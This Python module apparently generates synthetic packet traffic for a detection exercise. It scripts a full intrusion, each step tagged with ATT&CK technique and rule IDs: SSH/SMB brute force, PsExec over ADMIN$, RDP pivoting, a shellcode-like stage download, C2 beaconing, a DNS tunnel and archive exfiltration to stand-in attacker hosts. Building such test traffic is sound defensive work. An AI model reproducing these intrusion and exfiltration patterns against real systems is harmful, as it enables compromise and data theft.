"""From the portal to the file server, on to a service station, and out."""

import struct

import protocols
import windows
from exercise_01 import FILES, LINUX, NAMES, PORTAL, RED_CONTROL, RED_DROP, STATION, WINDOWS, T
from packets import SECOND, Dice, Talk

AGENT = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)"


def guess(site):
    """Passwords guessed on the file server."""
    start = now = T("01:17:04.085")
    for number in range(14):
        talk = protocols.ssh(
            Talk(site.hall, now, PORTAL, 41200 + number, FILES, 22, 2600, LINUX),
            ("brute", number),
            packets=1,
            client="SSH-2.0-Go",
        )
        now += 3_400_000
    site.did(
        start,
        talk.now,
        "T1110.001",
        "credential-access",
        PORTAL,
        FILES,
        "passwords guessed over SSH, in vain",
        [9000403],
        success=False,
    )
    start = T("01:18:40.300")
    for number, tries in enumerate((6, 6)):
        smb = windows.SMBTalk(
            site.hall, start + number * 14 * SECOND, PORTAL, 41300 + number, FILES
        ).negotiate()
        for attempt in range(tries):
            smb.talk.now += 700_000
            smb.log_in("administrator", "FILESRV", accepted=(number, attempt) == (1, 5))
        smb.close()
    site.did(
        start,
        smb.talk.now,
        "T1110.001",
        "credential-access",
        PORTAL,
        FILES,
        "passwords guessed over SMB, the last one fits",
        [9000407],
    )


def take_over(site):
    """Its administrative share, a service, a command prompt."""
    start = T("01:20:15.770")
    smb = (
        windows.SMBTalk(site.hall, start, PORTAL, 41340, FILES)
        .negotiate()
        .log_in("administrator", "FILESRV")
        .connect("\\\\10.32.10.12\\ADMIN$")
    )
    smb.open("PSEXESVC.exe").write(
        "PSEXESVC.exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + Dice("service").bytes(1900)
    )
    smb.connect("\\\\10.32.10.12\\IPC$").open("svcctl").write(
        "svcctl", windows.bind(windows.uuid("367abb81-9844-35f1-ad32-98f038001003"), 2)
    )
    smb.write(
        "svcctl",
        windows.call(
            12, windows.service(bytes(4) + Dice("handle").bytes(16), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
        ),
    )
    site.did(
        start,
        smb.talk.now,
        "T1021.002",
        "lateral-movement",
        PORTAL,
        FILES,
        "administrative share of the file server, service of PsExec set up",
        [9000601, 9000603, 9000604],
    )
    start = smb.talk.now = smb.talk.now + 4 * SECOND
    smb.open("PSEXESVC-portal01-3120-stdout")
    prompt = b"Microsoft Windows [Version 10.0.17763.5329]\r\n(c) 2018 Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>"
    for output in (prompt, b"whoami\r\nnt authority\\system\r\n\r\nC:\\Windows\\system32>"):
        smb.exchange(
            8,
            struct.pack("<HBBIQQQIIII", 49, 0x50, 0, 1024, 0, 1, 1, 0, 0, 0, 0) + b"\0",
            struct.pack("<HBBIII", 17, 80, 0, len(output), 0, 0) + output,
        )
    smb.close()
    site.did(
        start,
        smb.talk.now,
        "T1569.002",
        "execution",
        PORTAL,
        FILES,
        "command prompt of the file server over a pipe",
        [9000620],
    )


def step_on(site):
    """Remote desktop and a drive of the service station."""
    start = T("01:22:31.510")
    talk = Talk(site.station, start, FILES, 50122, STATION, 3389, 16000, WINDOWS).open()
    talk.ask(windows.rdp_request("administrator")).answer(windows.rdp_confirm())
    protocols.records(talk, "bare", rounds=14, seed="desktop").close()
    site.did(
        start,
        talk.now,
        "T1021.001",
        "lateral-movement",
        FILES,
        STATION,
        "remote desktop from the file server to a service station",
        [9000611],
    )
    start = T("01:23:44.020")
    smb = (
        windows.SMBTalk(site.station, start, FILES, 50140, STATION, "JA-WS01")
        .negotiate()
        .log_in("administrator", "JA-WS01")
    )
    smb.connect("\\\\10.40.7.18\\C$").open("Users\\Public\\update.ps1").write(
        "Users\\Public\\update.ps1", Dice("script").bytes(700).hex().encode()
    ).close()
    site.did(
        start,
        smb.talk.now,
        "T1570",
        "lateral-movement",
        FILES,
        STATION,
        "a script copied to the drive of the service station",
        [9000602],
    )


def stage(site):
    """The controller's code is fetched."""
    start = T("01:25:00.900")
    talk = Talk(site.station, start, STATION, 50300, RED_CONTROL, 80, 24000).open()
    talk.ask(protocols.request("GET", "/MZRc", RED_CONTROL, [("Connection", "Keep-Alive")], agent=AGENT))
    stage = bytes.fromhex("fce8890000006089e531d2648b52308b520c8b52148b7228") + Dice("stage").bytes(9000)
    talk.answer(protocols.response(body=stage, kind="application/octet-stream", server="Apache")).close()
    site.did(
        start,
        talk.now,
        "T1105",
        "command-and-control",
        STATION,
        RED_CONTROL,
        "the service station fetches the controller's code",
        [9000513],
    )


def beacon(site):
    """Calls home about once a minute."""
    start = now = T("01:25:40.330")
    dice, cookie, number = Dice("beacon"), protocols.base64(Dice("session").bytes(128)), 0
    while now < T("01:39:30"):
        talk = Talk(site.station, now, STATION, 50310 + number, RED_CONTROL, 80, 24000).open()
        talk.ask(
            protocols.request(
                "GET",
                "/visit.js",
                RED_CONTROL,
                [("Accept", "*/*"), ("Cookie", cookie), ("Connection", "Keep-Alive")],
                agent=AGENT,
            )
        )
        talk.answer(
            protocols.response(
                body=dice.bytes(48) if number in (3, 7, 11) else b"",
                kind="application/octet-stream",
                server="Apache",
            )
        ).close()
        if number in (4, 8, 12):
            talk = Talk(
                site.station, talk.now + SECOND, STATION, 50380 + number, RED_CONTROL, 80, 24000
            ).open()
            talk.ask(
                protocols.request(
                    "POST",
                    "/submit.php?id=48213",
                    RED_CONTROL,
                    [("Accept", "*/*"), ("Content-Type", "application/octet-stream")],
                    b"\0\0\1\x30" + dice.bytes(300),
                    AGENT,
                )
            ).answer(protocols.response(server="Apache")).close()
        number += 1
        now += 54 * SECOND + dice.below(12 * SECOND)
    site.did(
        start,
        talk.now,
        "T1071.001",
        "command-and-control",
        STATION,
        RED_CONTROL,
        "beacon about once a minute, with results",
        [9000510, 9000510, 9000510, 9000511, 9000511],
    )


def tunnel(site):
    """Queries and texts that carry data."""
    dice = Dice("tunnel")
    start = now = T("01:29:10.260")
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    for number in range(60):
        label = "".join(letters[byte & 31] for byte in dice.bytes(72))
        text = f"{label[:48]}.{label[48:]}.n7.cdn-telemetry.example"
        protocols.lookup(
            site.station,
            now,
            STATION,
            NAMES,
            text,
            "TXT",
            [(None, "TXT", 1, protocols.base64(dice.bytes(132)))],
            delay=38_000,
        )
        now += 1_300_000 + dice.below(900_000)
    site.did(
        start,
        now,
        "T1071.004",
        "command-and-control",
        STATION,
        NAMES,
        "DNS tunnel below cdn-telemetry.example through the city's resolver",
        [9000501, 9000501, 9000502, 9000502, 9000531],
    )


def carry_off(site):
    """Archives leave from the service station and from the file server."""
    start = T("01:34:31.040")
    talk = Talk(site.station, start, STATION, 50460, RED_DROP, 80, 24000).open()
    archive = b"Rar!\x1a\x07\x01\0" + Dice("rar").bytes(30000)
    talk.ask(
        protocols.request(
            "POST",
            "/u/ja-ws01.dat",
            RED_DROP,
            [("Content-Type", "application/octet-stream")],
            archive,
            "Mozilla/4.0",
        )
    )
    talk.answer(protocols.response(body="ok", kind="text/plain")).close()
    site.did(
        start,
        talk.now,
        "T1048.003",
        "exfiltration",
        STATION,
        RED_DROP,
        "a RAR archive sent out by the service station",
        [9000702],
    )
    start = T("01:36:12.870")
    talk = Talk(site.hall, start, FILES, 50810, RED_DROP, 80, 24000).open()
    talk.rough = True
    body = protocols.form(
        "------------------------4f1e",
        [
            (
                "f",
                "share.7z",
                "application/octet-stream",
                b"7z\xbc\xaf\x27\x1c\0\x04" + Dice("7z").bytes(38000),
            )
        ],
    )
    talk.ask(
        protocols.request(
            "POST",
            "/u/up.php",
            RED_DROP,
            [
                ("Accept", "*/*"),
                ("Content-Type", "multipart/form-data; boundary=------------------------4f1e"),
            ],
            body,
            "curl/8.4.0",
        )
    ).answer(protocols.response(body="ok", kind="text/plain")).close()
    site.did(
        start,
        talk.now,
        "T1048.003",
        "exfiltration",
        FILES,
        RED_DROP,
        "a 7-Zip archive of the file server's share sent out",
        [9000703, 9000704],
    )


def play(site):
    """All of it, in order."""
    for part in (guess, take_over, step_on, stage, beacon, tunnel, carry_off):
        part(site)
